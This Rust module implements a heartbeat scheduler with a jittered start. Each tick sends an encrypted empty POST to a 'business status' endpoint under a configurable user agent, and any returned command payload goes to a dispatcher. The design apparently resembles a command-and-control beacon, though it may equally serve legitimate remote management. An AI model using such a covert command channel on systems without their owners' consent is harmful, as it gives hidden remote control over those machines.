//! §4.7 Heartbeat Scheduler: `Stopped → Started (awaiting first tick)
//! → Ticking`, jittered start, one encrypted empty-body POST per tick
//! doubling as the command-pull channel.

use crate::command::CommandPayload;
use crate::dispatcher::CommandDispatcher;
use crate::wire::WireClient;
use rand::Rng;
use std::sync::atomic::{AtomicU8, Ordering};
use std::sync::Arc;
use tokio::sync::Notify;
use tokio::time::{sleep, Duration};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HeartbeatState {
    Stopped,
    Started,
    Ticking,
}

impl HeartbeatState {
    fn from_tag(tag: u8) -> Self {
        match tag {
            1 => HeartbeatState::Started,
            2 => HeartbeatState::Ticking,
            _ => HeartbeatState::Stopped,
        }
    }

    fn tag(self) -> u8 {
        match self {
            HeartbeatState::Stopped => 0,
            HeartbeatState::Started => 1,
            HeartbeatState::Ticking => 2,
        }
    }
}

pub struct HeartbeatScheduler {
    client: Arc<WireClient>,
    dispatcher: Arc<CommandDispatcher>,
    user_agent: Box<dyn Fn() -> String + Send + Sync>,
    state: AtomicU8,
    stop: Notify,
}

impl HeartbeatScheduler {
    pub fn new(
        client: Arc<WireClient>,
        dispatcher: Arc<CommandDispatcher>,
        user_agent: impl Fn() -> String + Send + Sync + 'static,
    ) -> Self {
        Self {
            client,
            dispatcher,
            user_agent: Box::new(user_agent),
            state: AtomicU8::new(HeartbeatState::Stopped.tag()),
            stop: Notify::new(),
        }
    }

    pub fn state(&self) -> HeartbeatState {
        HeartbeatState::from_tag(self.state.load(Ordering::SeqCst))
    }

    fn set_state(&self, state: HeartbeatState) {
        self.state.store(state.tag(), Ordering::SeqCst);
    }

    /// §4.7 `start`: run until `stop()` is called. Intended to be
    /// spawned as an owned task; joined on shutdown.
    pub async fn start(self: Arc<Self>, interval: Duration) {
        self.set_state(HeartbeatState::Started);

        let jitter_ms = rand::thread_rng().gen_range(0..interval.as_millis().max(1) as u64);
        tokio::select! {
            _ = sleep(Duration::from_millis(jitter_ms)) => {}
            _ = self.stop.notified() => {
                self.set_state(HeartbeatState::Stopped);
                return;
            }
        }

        self.set_state(HeartbeatState::Ticking);
        self.tick().await;

        loop {
            tokio::select! {
                _ = sleep(interval) => self.tick().await,
                _ = self.stop.notified() => break,
            }
        }

        self.set_state(HeartbeatState::Stopped);
    }

    pub fn stop(&self) {
        self.stop.notify_one();
    }

    async fn tick(&self) {
        let ua = (self.user_agent)();
        let response = match self.client.post_business_status(&ua).await {
            Ok(body) => body,
            Err(e) => {
                tracing::warn!(error = %e, "heartbeat request failed, continuing");
                return;
            }
        };

        if response.is_empty() {
            return;
        }

        match serde_json::from_slice::<CommandPayload>(&response) {
            Ok(payload) => self.dispatcher.dispatch(payload).await,
            Err(e) => {
                tracing::warn!(error = %e, "heartbeat response decode failed, continuing");
            }
        }
    }
}
